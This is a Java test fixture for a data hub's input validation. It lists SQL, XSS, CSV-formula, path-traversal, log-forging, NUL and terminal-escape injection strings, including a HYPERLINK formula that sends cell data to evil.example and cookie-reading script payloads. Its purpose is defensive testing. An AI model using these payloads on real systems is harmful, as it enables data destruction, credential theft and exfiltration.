package org.consortium.hub.hostile;

import java.util.List;

/**
 * Injection strings: SQL, HTML/script, CSV formulas, path traversal, log forging (CR/LF and
 * other line breaks), NUL and terminal escapes.
 *
 * <p>Which of them the hub must refuse depends on the field: any of them in a field the
 * contract pins down (an enum, a pattern); those holding whitespace in an identifier; those
 * holding a control character or a line break anywhere, because records are one-line text and
 * PostgreSQL cannot store NUL. The others are legitimate characters of a title ("Qu'est-ce
 * que...", "<Titre>", "=") that the hub stores as inert data, never interprets.
 */
final class Injections {

    record Injection(String family, String text) {

        boolean hasControl() {
            return Printable.hasLineBreakOrControl(text);
        }

        boolean hasWhitespace() {
            return text.chars().anyMatch(Character::isWhitespace) || hasControl();
        }

        /** Whether the contract refuses this text in a field of this kind. */
        boolean refusedIn(Fields.Kind kind) {
            return switch (kind) {
                case CODE -> true;
                case ID -> hasWhitespace();
                case TEXT -> hasControl();
                default -> throw new IllegalArgumentException(kind + " is not text");
            };
        }

        String describe() {
            return family + " " + Printable.of(text);
        }
    }

    private Injections() {
    }

    static final List<Injection> ALL = List.of(
            new Injection("SQL", "'; DROP TABLE contributed_record; --"),
            new Injection("SQL", "' OR '1'='1"),
            new Injection("SQL", "1);DELETE/**/FROM/**/receipt;--"),
            new Injection("SQL", "\\'; SHUTDOWN WITH NOWAIT; --"),
            new Injection("HTML", "<script>alert(1)</script>"),
            new Injection("HTML", "<img src=x onerror=alert(document.cookie)>"),
            new Injection("HTML", "\"><svg/onload=alert(1)>"),
            new Injection("HTML", "javascript:alert(1)"),
            new Injection("CSV formula", "=cmd|' /C calc'!A0"),
            new Injection("CSV formula", "+cmd|' /C notepad'!A0"),
            new Injection("CSV formula", "-2+3+cmd|' /C calc'!A0"),
            new Injection("CSV formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
            new Injection("CSV formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"),
            new Injection("path traversal", "../../../../etc/passwd"),
            new Injection("path traversal", "..\\..\\..\\windows\\win.ini"),
            new Injection("path traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
            new Injection("log forging", "ok\r\n2031-01-01 12:00:00 INFO  [org.consortium.hub] rollups reset by admin"),
            new Injection("log forging", "ok\nERROR forged line"),
            new Injection("log forging", "ok\r"),
            new Injection("log forging", "ok\u2028forged line"),
            new Injection("log forging", "ok\u0085forged line"),
            new Injection("NUL", "a\u0000b"),
            new Injection("NUL", "\u0000"),
            new Injection("terminal escape", "\u001b[2J\u001b[31mred"));
}
